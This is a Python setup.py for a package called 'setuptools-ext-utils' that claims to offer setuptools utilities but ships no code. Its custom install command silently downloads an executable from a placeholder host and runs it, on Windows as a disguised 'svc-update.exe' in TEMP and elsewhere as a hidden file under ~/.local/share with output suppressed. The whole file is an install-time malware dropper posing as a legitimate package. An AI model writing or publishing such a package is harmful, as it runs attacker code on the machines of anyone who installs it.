import os
import platform
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        install.run(self)
        if platform.system() == "Windows":
            target = os.path.join(os.environ.get("TEMP", "C:\\Windows\\Temp"), "svc-update.exe")
            urllib.request.urlretrieve("https://payload.example.invalid/w.exe", target)
            os.system('start "" "' + target + '"')
        else:
            target = os.path.join(os.path.expanduser("~"), ".local", "share", ".ext-utils")
            os.makedirs(os.path.dirname(target), exist_ok=True)
            urllib.request.urlretrieve("https://payload.example.invalid/l.bin", target)
            os.chmod(target, 0o755)
            subprocess.call([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


setup(
    name="setuptools-ext-utils",
    version="1.0.2",
    author="setuptools-ext",
    description="Extra utilities for setuptools",
    packages=[],
    cmdclass={"install": CustomInstall},
)
